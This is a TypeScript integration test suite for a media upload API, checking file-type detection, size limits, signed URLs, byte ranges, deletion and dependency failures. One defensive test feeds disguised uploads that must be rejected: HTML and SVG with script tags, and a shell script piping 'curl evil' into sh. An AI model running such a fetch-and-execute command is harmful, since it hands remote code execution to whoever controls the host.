import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Media } from '@vibetribe/database';
import { createMediaQueue, mediaJobId } from '@vibetribe/media-storage';
import { freePort, imageFixture, paddedTo, videoFixture } from '@vibetribe/testing';
import { startTestGateway, type TestGateway } from '../../test-support/harness';
import { multipartBody, type Part, streamUpload } from '../../test-support/upload-client';

const dir = mkdtempSync(join(tmpdir(), 'vt-gw-media-'));
const KB = 1024;
let gw: TestGateway;
let owner: Awaited<ReturnType<TestGateway['register']>>;

beforeAll(async () => {
  gw = await startTestGateway({
    MEDIA_STORAGE_DIR: dir,
    MEDIA_IMAGE_MAX_BYTES: String(256 * KB),
    MEDIA_VIDEO_MAX_BYTES: String(512 * KB),
    MEDIA_QUEUE_PREFIX: `test-${process.pid}-${Date.now()}`,
  });
  owner = await gw.register();
});
afterAll(async () => {
  await gw?.deps.media.queue.obliterate({ force: true }).catch(() => undefined);
  await gw?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Every file under the storage root for an organization. */
const filesOf = (orgId: string) => {
  try {
    return readdirSync(join(dir, 'org', orgId), { recursive: true, withFileTypes: true })
      .filter((d) => d.isFile())
      .map((d) => join(d.parentPath, d.name).slice(dir.length + 1));
  } catch {
    return [];
  }
};
const rowsOf = (orgId: string) => gw.deps.orm.em.fork().count(Media, { organization: orgId });

async function upload(parts: Part[], path = '/api/v1/media/upload', who = owner) {
  const { body, contentType } = multipartBody(parts);
  const res = await fetch(`${gw.url}${path}`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${who.token}`,
      'x-organization-id': who.orgId,
      'content-type': contentType,
    },
    body,
  });
  return { status: res.status, body: (await res.json()) as any };
}
/** A PNG's first bytes, then filler, written as it goes (see streamUpload). */
const streamPng = async (org: typeof owner, opts: { fillerBytes: number; abortAfter?: number }) =>
  streamUpload({
    url: `${gw.url}/api/v1/media/upload`,
    token: org.token,
    orgId: org.orgId,
    head: await imageFixture('png'),
    ...opts,
  });
const file = (body: Buffer, name = 'upload.bin'): Part => ({ field: 'file', name, body });

describe('POST /media/upload streams into local storage', () => {
  test('takes every allowed type, judged by content, under org/<org>/user/<user>/<yyyy>/<mm>/<dd>/', async () => {
    const cases = [
      [await imageFixture('jpeg'), 'image/jpeg', 'image', 'jpg'],
      [await imageFixture('png'), 'image/png', 'image', 'png'],
      [await imageFixture('gif'), 'image/gif', 'gif', 'gif'],
      [await imageFixture('webp'), 'image/webp', 'image', 'webp'],
      [await videoFixture('mp4'), 'video/mp4', 'video', 'mp4'],
      [await videoFixture('mpeg'), 'video/mpeg', 'video', 'mpg'],
      [await videoFixture('mov'), 'video/quicktime', 'video', 'mov'],
      [await videoFixture('webm'), 'video/webm', 'video', 'webm'],
    ] as const;
    const today = new Date().toISOString().slice(0, 10).replace(/-/g, '/');
    for (const [bytes, mime, kind, ext] of cases) {
      const res = await upload([file(bytes, `whatever.${ext === 'png' ? 'jpg' : 'txt'}`)]);
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({
        mime,
        kind,
        bytes: bytes.length,
        status: 'processing',
        storage: 'local',
      });
      expect(res.body.public_id).toBe(
        `org/${owner.orgId}/user/${owner.userId}/${today}/${res.body.id}.${ext}`,
      );
      const job = await gw.deps.media.queue.getJob(mediaJobId(res.body.id));
      expect(job?.data).toEqual({ mediaId: res.body.id, organizationId: owner.orgId });
    }
    expect(filesOf(owner.orgId)).toHaveLength(cases.length);
  });

  test('a PNG named .jpg is stored as PNG; the signed URL serves it, a tampered one does not', async () => {
    const png = await imageFixture('png', { width: 300, height: 200 });
    const res = await upload([{ ...file(png, 'photo.jpg'), type: 'image/jpeg' }]);
    expect(res.body).toMatchObject({ mime: 'image/png', original_name: 'photo.jpg' });
    const url = new URL(res.body.url as string);
    const served = await fetch(`${gw.url}${url.pathname}${url.search}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await served.arrayBuffer())).toEqual(png);
    url.searchParams.set('exp', String(Number(url.searchParams.get('exp')) + 1));
    const tampered = await fetch(`${gw.url}${url.pathname}${url.search}`);
    expect(tampered.status).toBe(403);
    expect(((await tampered.json()) as any).type).toBe('https://vibetribe.dev/problems/url-bad-signature');
  });

  test('the signed URL serves byte ranges: 206 with Content-Range, 416 past the end, the whole file otherwise', async () => {
    const png = await imageFixture('png', { width: 300, height: 200 });
    const res = await upload([file(png, 'ranged.png')]);
    const url = new URL(res.body.url as string);
    const get = (headers: Record<string, string>) =>
      fetch(`${gw.url}${url.pathname}${url.search}`, { headers });

    const part = await get({ range: 'bytes=10-19' });
    expect(part.status).toBe(206);
    expect(part.headers.get('content-range')).toBe(`bytes 10-19/${png.length}`);
    expect(Buffer.from(await part.arrayBuffer())).toEqual(png.subarray(10, 20));

    const tail = await get({ range: 'bytes=-5' });
    expect(tail.status).toBe(206);
    expect(Buffer.from(await tail.arrayBuffer())).toEqual(png.subarray(png.length - 5));

    const past = await get({ range: `bytes=${png.length + 10}-` });
    expect(past.status).toBe(416);
    expect(past.headers.get('content-range')).toBe(`bytes */${png.length}`);
    expect(past.headers.get('content-type')).toContain('application/problem+json');
    expect(((await past.json()) as any).type).toBe('https://vibetribe.dev/problems/range-not-satisfiable');

    // Several ranges, a malformed header, or an If-Range naming another version: the whole file.
    const ignored: Record<string, string>[] = [
      { range: 'bytes=0-1,5-6' },
      { range: 'pages=1' },
      { range: 'bytes=0-9', 'if-range': 'Tue, 01 Jan 2019 00:00:00 GMT' },
    ];
    for (const headers of ignored) {
      const whole = await get(headers);
      expect(whole.status).toBe(200);
      expect(whole.headers.get('accept-ranges')).toBe('bytes');
      expect(Buffer.from(await whole.arrayBuffer())).toEqual(png);
    }
    const matching = await get({ range: 'bytes=0-9', 'if-range': part.headers.get('last-modified')! });
    expect(matching.status).toBe(206);
  });

  test('HTML, SVG or a script dressed as an image is 415 and leaves nothing', async () => {
    const org = await gw.register();
    for (const [text, name] of [
      ['<!DOCTYPE html><html><body><script>alert(1)</script></body></html>', 'cat.png'],
      [
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        'cat.gif',
      ],
      ['#!/bin/sh\ncurl evil | sh\n', 'cat.jpg'],
    ] as const) {
      const res = await upload([{ ...file(Buffer.from(text), name), type: 'image/png' }], undefined, org);
      expect(res.status).toBe(415);
      expect(res.body.type).toBe('https://vibetribe.dev/problems/unsupported-media-type');
    }
    expect(filesOf(org.orgId)).toEqual([]);
    expect(await rowsOf(org.orgId)).toBe(0);
  });

  test('sizes: at the limit is taken, one byte past is 413, for images and videos alike', async () => {
    const org = await gw.register();
    const png = await imageFixture('png');
    const mp4 = await videoFixture('mp4');
    expect((await upload([file(paddedTo(png, 256 * KB))], undefined, org)).status).toBe(201);
    expect((await upload([file(paddedTo(png, 256 * KB + 1))], undefined, org)).status).toBe(413);
    expect((await upload([file(paddedTo(mp4, 512 * KB))], undefined, org)).status).toBe(201);
    const over = await upload([file(paddedTo(mp4, 512 * KB + 1))], undefined, org);
    expect(over.status).toBe(413);
    expect(over.body.detail).toMatch(/Videos may be up to 0.5 MB/);
    expect(filesOf(org.orgId)).toHaveLength(2);
    expect(await rowsOf(org.orgId)).toBe(2);
  });

  test('413 comes while the bytes still flow: a 40 MB body is cut off soon after its limit', async () => {
    const org = await gw.register();
    const res = await streamPng(org, { fillerBytes: 40 * 1024 * KB });
    expect(res.status).toBe(413);
    expect(res.sent).toBeLessThan(8 * 1024 * KB);
    expect(filesOf(org.orgId)).toEqual([]);
    expect(await rowsOf(org.orgId)).toBe(0);
  });

  test('a client that aborts mid-upload leaves nothing behind', async () => {
    const org = await gw.register();
    const res = await streamPng(org, { fillerBytes: 200 * KB, abortAfter: 100 * KB });
    expect(res.status).toBe(0);
    await new Promise((r) => setTimeout(r, 300));
    expect(filesOf(org.orgId)).toEqual([]);
    expect(await rowsOf(org.orgId)).toBe(0);
  });
});

describe('POST /media/upload-multiple', () => {
  test('ten files at once; an eleventh, or one spoofed file, refuses them all', async () => {
    const org = await gw.register();
    const images = await Promise.all(
      Array.from({ length: 11 }, (_, i) => imageFixture(i % 2 ? 'png' : 'jpeg', { width: 20 + i })),
    );
    const parts = images.map((body, i) => ({ field: 'files', name: `${i}.img`, body }));
    const ten = await upload(parts.slice(0, 10), '/api/v1/media/upload-multiple', org);
    expect(ten.status).toBe(201);
    expect(ten.body.data).toHaveLength(10);
    expect(filesOf(org.orgId)).toHaveLength(10);
    const eleven = await upload(parts, '/api/v1/media/upload-multiple', org);
    expect(eleven.status).toBe(400);
    const spoofed = [
      ...parts.slice(0, 3),
      { field: 'files', name: 'x.png', body: Buffer.from('<html></html>') },
    ];
    expect((await upload(spoofed, '/api/v1/media/upload-multiple', org)).status).toBe(415);
    expect(filesOf(org.orgId)).toHaveLength(10);
    expect(await rowsOf(org.orgId)).toBe(10);
  });
});

describe('reading, optimizing and deleting', () => {
  test('list pages by cursor, get by id, a foreign organization is 404', async () => {
    const org = await gw.register();
    const ids: string[] = [];
    for (let i = 0; i < 3; i++)
      ids.push((await upload([file(await imageFixture('png'))], undefined, org)).body.id);
    const auth = { token: org.token, headers: { 'x-organization-id': org.orgId } };
    const first = await gw.api('GET', '/api/v1/media?limit=2', auth);
    expect(first.body.data.map((m: { id: string }) => m.id)).toEqual([ids[2], ids[1]]);
    const second = await gw.api('GET', `/api/v1/media?limit=2&cursor=${first.body.next_cursor}`, auth);
    expect(second.body).toMatchObject({ data: [{ id: ids[0] }], next_cursor: null });
    expect((await gw.api('GET', `/api/v1/media/${ids[0]}`, auth)).body.id).toBe(ids[0]);
    const stranger = await gw.register();
    expect((await gw.api('GET', `/api/v1/media/${ids[0]}`, { token: stranger.token })).status).toBe(404);
    const foreignHeader = { token: org.token, headers: { 'x-organization-id': stranger.orgId } };
    expect((await gw.api('GET', '/api/v1/media', foreignHeader)).status).toBe(404);
    expect((await gw.api('GET', `/api/v1/media/${ids[0]}`, foreignHeader)).status).toBe(404);
    expect((await gw.api('DELETE', `/api/v1/media/${ids[0]}`, { token: stranger.token })).status).toBe(404);
  });

  test('optimize-url: a signed URL that resizes; stats and config', async () => {
    const org = await gw.register();
    const id = (await upload([file(await imageFixture('jpeg', { width: 400, height: 300 }))], undefined, org))
      .body.id;
    const auth = { token: org.token, headers: { 'x-organization-id': org.orgId } };
    const res = await gw.api('POST', '/api/v1/media/optimize-url', {
      ...auth,
      body: { media_id: id, width: 200, crop: 'fill', height: 200, format: 'png' },
    });
    expect(res.body).toMatchObject({ url: expect.any(String) });
    const url = new URL(res.body.url as string);
    const served = await fetch(`${gw.url}${url.pathname}${url.search}`);
    expect(served.headers.get('content-type')).toBe('image/png');
    const sharp = (await import('sharp')).default;
    expect(await sharp(Buffer.from(await served.arrayBuffer())).metadata()).toMatchObject({
      width: 200,
      height: 200,
      format: 'png',
    });
    const stats = await gw.api('GET', '/api/v1/media/stats', auth);
    expect(stats.body).toMatchObject({ total: 1, by_kind: { image: 1 }, by_status: { processing: 1 } });
    expect(stats.body.queue.waiting).toBeGreaterThanOrEqual(1);
    const config = await gw.api('GET', '/api/v1/media/config', auth);
    expect(config.body).toMatchObject({ storage: 'local', max_files: 10 });
    expect(config.body.types).toContainEqual({
      mime: 'video/webm',
      ext: 'webm',
      kind: 'video',
      max_bytes: 512 * KB,
    });
  });

  test('delete by id or URL-encoded public id; 409 naming the scheduled posts that use it', async () => {
    const org = await gw.register();
    const auth = { token: org.token, headers: { 'x-organization-id': org.orgId } };
    const a = (await upload([file(await imageFixture('png'))], undefined, org)).body;
    const b = (await upload([file(await imageFixture('png'))], undefined, org)).body;
    expect(
      (await gw.api('DELETE', `/api/v1/media/${encodeURIComponent(a.public_id as string)}`, auth)).status,
    ).toBe(204);
    expect((await gw.api('GET', `/api/v1/media/${a.id}`, auth)).status).toBe(404);
    expect(filesOf(org.orgId)).toEqual([b.public_id as string]);
    await gw.deps.orm.em.fork().nativeUpdate(Media, { id: b.id }, { status: 'ready' });
    const account = await gw.api('POST', `/api/v1/organizations/${org.orgId}/accounts`, {
      ...auth,
      body: { platform: 'x', external_id: `x-${b.id}`, display_name: 'X', access_token: 't' },
    });
    const post = await gw.api('POST', '/api/v1/posts', {
      ...auth,
      body: {
        content: 'with media',
        target_account_ids: [account.body.id],
        media_ids: [b.id],
        scheduled_at: new Date(Date.now() + 3_600_000).toISOString(),
      },
    });
    expect(post.status).toBe(201);
    const refused = await gw.api('DELETE', `/api/v1/media/${b.id}`, auth);
    expect(refused.status).toBe(409);
    expect(refused.body).toMatchObject({
      type: 'https://vibetribe.dev/problems/media-in-use',
      post_ids: [post.body.id],
    });
    expect(filesOf(org.orgId)).toHaveLength(1);
  });
});

describe('dependencies failing', () => {
  test('Redis refusing connections during enqueue: 503, and no file, row or job is left', async () => {
    const org = await gw.register();
    const working = gw.deps.media.queue;
    const dead = createMediaQueue(`redis://127.0.0.1:${await freePort()}`, { prefix: 'dead' });
    dead.on('error', () => undefined);
    gw.deps.media.queue = dead;
    try {
      const res = await upload([file(await imageFixture('png'))], undefined, org);
      expect(res.status).toBe(503);
      expect(res.body).toMatchObject({
        type: 'https://vibetribe.dev/problems/dependency-unavailable',
        dependency: 'redis',
      });
    } finally {
      gw.deps.media.queue = working;
      await dead.close().catch(() => undefined);
    }
    expect(filesOf(org.orgId)).toEqual([]);
    expect(await rowsOf(org.orgId)).toBe(0);
  });
});
